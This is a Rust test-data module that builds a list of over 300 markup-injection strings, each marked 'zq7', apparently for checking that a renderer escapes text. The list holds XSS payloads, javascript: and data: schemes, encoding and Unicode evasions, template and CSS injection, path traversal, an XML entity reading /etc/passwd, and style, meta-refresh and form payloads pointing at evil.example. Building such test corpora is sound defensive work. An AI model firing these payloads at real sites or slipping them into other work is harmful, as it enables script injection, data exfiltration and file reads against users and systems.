//! Texts that try to become markup: how a text could leave its place, times what it would do outside. Each one names
//! its element or attribute `zq7`, so that whatever gets through shows.

use std::collections::BTreeSet;

/// How a text could leave the place that it stands in.
const EXITS: [&str; 16] = [
    "", "\">", "'>", "\"/>", "</p>", "</title>", "</script>", "</style>", "-->", "--!>", "]]>", "</a></li></ul></main>",
    "</textarea></select>", "*/}", "\\\">", "</dd></dl></section>",
];

/// What would run, fetch or cover the page.
const ELEMENTS: [&str; 10] = [
    "<script zq7>alert(1)</script>", "<img zq7 src=x onerror=alert(1)>", "<svg zq7 onload=alert(1)>",
    "<iframe zq7 srcdoc='<script>alert(1)</script>'></iframe>", "<a zq7 href=javascript:alert(1)>x</a>",
    "<style zq7>@import '//evil.example'</style>", "<meta zq7 http-equiv=refresh content='0;url=//evil.example'>",
    "<base zq7 href=//evil.example/>", "<form zq7 action=//evil.example><button>x</button></form>",
    "<details zq7 open ontoggle=alert(1)>",
];

/// Namespaces, and elements whose inside is read otherwise.
const NAMESPACES: [&str; 18] = [
    "<svg><script zq7>alert(1)</script></svg>", "<svg><style><img zq7 src=x onerror=alert(1)></style></svg>",
    "<svg><animate zq7 attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set zq7 attributeName=onload to=alert(1) /></svg>", "<svg><use zq7 href='data:image/svg+xml,<svg/>' /></svg>",
    "<svg><foreignObject><body zq7 onload=alert(1)></foreignObject></svg>",
    "<svg><desc><![CDATA[</desc><script zq7>alert(1)</script>]]></svg>",
    "<math><mtext><table><mglyph><style><img zq7 src onerror=alert(1)></table></math>",
    "<math><annotation-xml encoding='text/html'><p zq7 onclick=alert(1)></annotation-xml></math>",
    "<math zq7 href=javascript:alert(1)>x</math>", "<template zq7><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img zq7 src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img zq7 src=x onerror=alert(1)>'></xmp>", "<plaintext zq7>", "<textarea><p zq7></textarea>",
    "<select><option zq7></select>", "<frameset zq7 onload=alert(1)><frame src=x>", "<object zq7 data=//evil.example></object>",
];

/// Attributes of the element that the text stands in.
const ATTRIBUTES: [&str; 12] = [
    "onmouseover", "onfocus", "onclick", "onanimationstart", "onpointerover", "onbeforetoggle", "style", "srcdoc", "formaction",
    "xlink:href", "srcset", "zq7",
];

/// How an attribute's value could be left.
const QUOTES: [(&str, &str); 4] = [("\" ", "=\"alert(1)"), ("' ", "='alert(1)"), (" ", "=alert(1) x="), ("\"\t/", "=`alert(1)`")];

/// Addresses that run or show what they hold.
const SCHEMES: [&str; 30] = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java\rscript:alert(1)", "\u{1}javascript:alert(1)", "javascript\u{0}:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61;vascript:alert(1)", "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)", "javascript://guides.mairie.example/%0aalert(1)", "jar:javascript:alert(1)!/",
    "vbscript:msgbox(1)", "data:text/html,<script zq7>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "view-source:javascript:alert(1)", "blob:https://evil.example/1",
    "filesystem:https://evil.example/x", "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example",
    "feed:javascript:alert(1)", "livescript:alert(1)", "https://a:b@evil.example/\" onclick=\"alert(1)",
];

/// Markup written another way.
const ENCODINGS: [&str; 28] = [
    "&lt;script zq7&gt;alert(1)&lt;/script&gt;", "&#60;script zq7&#62;alert(1)", "&#x3c;script zq7&#x3e;", "&#0000060;b zq7>",
    "&LT;b zq7&GT;", "&amp;lt;b zq7&amp;gt;", "%3Cscript%20zq7%3Ealert(1)", "%253Cb zq7%253E", "\\u003cscript zq7\\u003e",
    "\\x3cscript zq7\\x3e", "\\74script zq7\\76", "+ADw-script zq7+AD4-alert(1)+ADw-/script+AD4-", "&#34;&#62;<b zq7>",
    "\u{ff1c}script zq7\u{ff1e}alert(1)", "\u{2039}b zq7\u{203a}", "<\u{17f}cript zq7>alert(1)</\u{17f}cript>",
    "<\u{212a}bd zq7>x</\u{212a}bd>", "<scr\u{ad}ipt zq7>", "<scr\u{200b}ipt zq7>", "<b\u{a0}zq7>", "<b\u{2028}zq7>x",
    "<b\u{c}zq7>x</b>", "<b/zq7/onclick=alert(1)>x</b>", "<b\u{b}zq7>x", "<b\u{85}zq7>x", "<\u{feff}b zq7>", "<b zq7 x='&quot;' y=\"&apos;\">",
    "<B ZQ7 OnClIcK=alert(1)>x</B>",
];

/// Comments, declarations, marks of other languages.
const DECLARATIONS: [&str; 22] = [
    "<!-- zq7 -->", "<!--><b zq7>-->", "<!---><b zq7>", "<!-- --!><b zq7>", "<!--<!--><script zq7>", "<![CDATA[<b zq7>]]>",
    "<!DOCTYPE html [<!ENTITY zq7 SYSTEM \"file:///etc/passwd\">]>&zq7;", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<?php echo 1 ?><b zq7>", "<% zq7 %>", "<!b zq7>", "</ b zq7>", "<//b zq7>", "<>\"<b zq7>", "<b zq7", "<b zq7=\"", "<<b zq7>>",
    "<b zq7='\n'>x", "&", "&zq7", "<!ENTITY % zq7 SYSTEM 'x'>", "<!--[if IE]><b zq7><![endif]-->",
];

/// What templates would run.
const TEMPLATES: [&str; 14] = [
    "{{ 7771 * 7 }}", "{{ publisher | safe }}", "{% raw %}<b zq7>{% endraw %}", "{# zq7 #}", "{% include \"base.html\" %}",
    "{% extends \"text.html\" %}", "{%- if true -%}<b zq7>{%- endif -%}", "{{ __tera_context }}", "}}<b zq7>{{", "%}<b zq7>{%",
    "{{ get_env(name=\"HOME\") }}", "${7771*7}", "#{7771*7}", "<%= 7771 * 7 %>",
];

/// Out of a block of JSON in a page, and out of JSON itself.
const JSON: [&str; 14] = [
    "\"}</script><script zq7>alert(1)</script>", "\",\"zq7\":\"x", "\\\"},{\"zq7\":1", "\"]}-->", "<!--<script zq7>", "</SCRIPT zq7>",
    "</script\t><b zq7>", "\\", "\\\\\"", "\u{2028}\u{2029}\"", "\",\"@type\":\"Person\",\"zq7\":\"", "]]></script>", "\\u0022,\\u0022zq7",
    "{\"@id\":\"javascript:alert(1)\"}",
];

/// Out of a rule or a string of a style, or of its element.
const STYLES: [&str; 14] = [
    "};*{background:url(//evil.example/zq7)}", "*/ body{display:none}/*", "expression(alert(1))", "url(javascript:alert(1))",
    "@import url(//evil.example/zq7);", "\\3c/style\\3e<b zq7>", "red;}</style><b zq7>", "#fff}:root{--zq7:url(//evil.example)",
    "\"}@font-face{font-family:zq7;src:url(//evil.example)}", "-moz-binding:url(//evil.example#zq7)", "behavior:url(zq7.htc)",
    "\\0a}zq7{", "<!--}zq7{-->", "var(--x,url(//evil.example/zq7))",
];

/// Control characters, and what turns or hides text.
const CHARACTERS: [&str; 22] = [
    "\u{0}<b zq7>", "<\u{0}b zq7>", "<b \u{0}zq7>", "\u{8}<b zq7>", "\u{1b}[31m<b zq7>", "\u{7f}<b zq7>", "\u{9d}<b zq7>",
    "\u{202e}<b zq7>\u{202c}", "\u{2066}\"><b zq7>\u{2069}", "\u{200f}\"\u{200e}<b zq7>", "\u{feff}<b zq7>", "\u{fffe}<b zq7>", "\u{ffff}<b zq7>",
    "\u{e000}<b zq7>", "\u{10ffff}<b zq7>", "\u{e0001}<b zq7>", "n\u{30b}\u{30b}\u{30b}<b zq7>", "\u{1f468}\u{200d}\u{1f469}<b zq7>", "\r\n\r\n<b zq7>",
    "\t<b zq7>", "\u{2029}<b zq7>", "\u{1}zq7\u{2}\"<b zq7>\u{3}",
];

/// Out of a name of a file or of an address.
const PATHS: [&str; 14] = [
    "../../zq7", "..\\..\\zq7", "/etc/zq7", "C:\\zq7", "\\\\hote\\zq7", "%2e%2e%2fzq7", "....//zq7", "zq7\u{0}.png", "a/../../zq7", "~/zq7",
    "CON", "zq7.", "?zq7=<b>", "#zq7\"onclick=\"alert(1)",
];

/// Markdown that would be markup.
const MARKDOWN: [&str; 12] = [
    "[x](javascript:alert(1))", "![x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](https://a.example \"\\\" onclick=\\\"zq7\")",
    "<javascript:alert(1)>", "<https://a.example/\"onclick=zq7>", "```<b zq7>", "`<b zq7>`", "| <b zq7> |", "{#x onclick=zq7}", "{zq7}", "[x]: javascript:alert(1)",
];

/// All of them, each once.
pub(crate) fn all() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    // Each element by a few exits, so that every exit and every element is used.
    for (i, element) in ELEMENTS.iter().enumerate() {
        all.extend((0..8).map(|j| format!("{}{element}", EXITS[(i + 2 * j) % EXITS.len()])));
    }
    for (i, attribute) in ATTRIBUTES.iter().enumerate() {
        all.extend((0..3).map(|j| {
            let (open, close) = QUOTES[(i + j) % QUOTES.len()];
            format!("mot{open}{attribute}{close}")
        }));
    }
    let lists: [&[&str]; 10] = [
        &NAMESPACES, &SCHEMES, &ENCODINGS, &DECLARATIONS, &TEMPLATES, &JSON, &STYLES, &CHARACTERS, &PATHS, &MARKDOWN,
    ];
    all.extend(lists.into_iter().flatten().map(|text| (*text).to_owned()));
    let distinct: BTreeSet<&String> = all.iter().collect();
    assert_eq!(distinct.len(), all.len(), "no payload twice");
    assert!(all.len() >= 300, "{}", all.len());
    all
}
